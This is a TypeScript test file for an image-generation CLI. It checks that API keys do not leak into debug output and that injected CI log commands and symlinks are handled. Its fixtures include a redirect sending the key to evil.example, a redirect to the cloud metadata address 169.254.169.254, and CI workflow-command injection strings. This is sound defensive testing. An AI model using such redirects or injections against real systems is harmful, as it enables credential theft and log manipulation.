// What comes from outside, and what must not get out: every run's output is read by the oracle of the harness.
import * as fs from 'node:fs'
import { join } from 'node:path'
import { expect, test } from 'vitest'
import { scene } from './harness.ts'
import { formsOf } from './oracle.ts'

const SMALL = 'defaults: { size: 64x64, output_format: png }\n'
const HOSTILE = [
  '::set-output name=x::y',
  '##[error]z',
  ' \u2003::warning::w',
  'a\\n::add-mask::m',
  '\\u202eb',
] as const

test.concurrent('debug logs, verbose, every kind of end: no key and no signed link', async (t) => {
  const s = await scene(t, { keeps: true })
  s.manifest(`${SMALL}images: { a: A, b: B, c: C, d: D, e: E, f: F }\n`)
  const echo = formsOf(s.gateway.key).join(' ')
  s.gateway.script([
    {
      on: 'purchase',
      prompt: 'B',
      fault: { kind: 'status', status: 400, message: `key ${echo} at https://x.example/p?sig=abc&se=2026` },
    },
    {
      on: 'purchase',
      prompt: 'C',
      fault: { kind: 'header', name: 'x-request-id', value: Buffer.from(s.gateway.key).toString('hex') },
    },
    {
      on: 'purchase',
      prompt: 'D',
      fault: { kind: 'redirect', to: { url: `https://evil.example/?k=${encodeURIComponent(s.gateway.key)}` } },
    },
    { on: 'download', prompt: 'E', fault: { kind: 'redirect', to: { url: 'http://169.254.169.254/?sig=1' } } },
    { on: 'download', prompt: 'F', nth: 1, fault: { kind: 'status', status: 500, body: 'html' } },
  ])
  const debug = {
    NODE_DEBUG: 'undici,http,https,fetch,net,tls,stream,child_process',
    NODE_DEBUG_NATIVE: '',
    DEBUG: '*',
  }
  const loud = await s.runIn(debug, 'generate', '--verbose')
  expect([loud.code, s.billed()]).toEqual([1, 4])
  expect(loud.stdout).toMatch(/failed +b .*key \[secret\]/)
  expect(s.lock()['c']?.receipt?.request_id).toBeUndefined()
  for (const words of [
    ['generate', '--json'],
    ['plan', '--verbose'],
    ['explain', 'a'],
    ['explain', 'a', '--json'],
    ['check'],
  ]) {
    expect((await s.runIn(debug, ...words)).signal).toBeNull()
  }
  // The key goes to the API's origin alone.
  expect(
    s.gateway.requests.filter(
      ({ origin, headerNames }) => origin === 'delivery' && headerNames.includes('authorization'),
    ),
  ).toEqual([])
})

test.concurrent('hostile prompts, names and answers are broken up wherever they are shown', async (t) => {
  const s = await scene(t)
  const images = HOSTILE.map(
    (text, n) =>
      `  i${n}: { prompt: "${text}", alt: "${text}", model: "m${text.replaceAll(/[\s\\]/gu, '')}", seed: ${n} }\n`,
  ).join('')
  const name = '##[group]::error::x.yml'
  s.write(name, `version: 1\n${SMALL}images:\n${images}  p: { prompt: P }\n`)
  const message = HOSTILE.map((text) => JSON.parse(`"${text}"`) as string).join('\r\n\u0085')
  s.gateway.script([{ on: 'purchase', fault: { kind: 'status', status: 400, message, code: '::error::' } }])
  for (const words of [
    ['plan', '--verbose'],
    ['explain', '**'],
    ['explain', '**', '--json'],
    ['generate', '--max-images', '9', '--verbose'],
    ['generate', '--max-images', '9', '--json'],
  ]) {
    const ran = await s.run(...words, '-m', name)
    expect([words, [0, 1].includes(ran.code ?? -1), (ran.stdout + ran.stderr).length > 100]).toEqual([
      words,
      true,
      true,
    ])
  }
  s.write(
    name,
    `version: 1\nimages:\n  a: { prompt: A, seed: "::error::\\e[31m" }\n  "::warning::": { prompt: x }\n  ::error::q: 1\n##[group]\n`,
  )
  for (const words of [
    ['plan'],
    ['plan', '--json'],
    ['generate', '::error::x', '##[group]'],
    ['::error::x'],
    ['plan', '--::error::x', '\u001b[31m'],
  ]) {
    expect((await s.run(...words, '-m', name)).code).toBe(2)
  }
  s.write('a\n::error::b.yml', 'version: 1\nimages: {}\n')
  expect((await s.run('plan', '-m', '*.yml')).code).toBe(2)
})

test.concurrent('a key with a line break, a state folder that somebody planted, a link on the way', async (t) => {
  const s = await scene(t, { git: false, keeps: true })
  s.manifest(`${SMALL}images: { a: A }\n`)
  const broken = await s.runIn({ APIYI_API_KEY: `${s.gateway.key}\nx` }, 'generate', '--json')
  expect([broken.code, broken.codes]).toEqual([2, ['key/malformed']])
  fs.mkdirSync(join(s.root, '.imagelock'), { mode: 0o755 })
  expect((await s.run('generate', '--json')).codes).toEqual(['state/foreign'])
  fs.rmdirSync(join(s.root, '.imagelock'))
  fs.symlinkSync('/tmp', join(s.root, 'images'))
  expect((await s.run('generate', '--json')).codes).toEqual(['manifest/path-link'])
  fs.rmSync(join(s.root, 'images'))
  expect(s.asked().all).toBe(0)
})
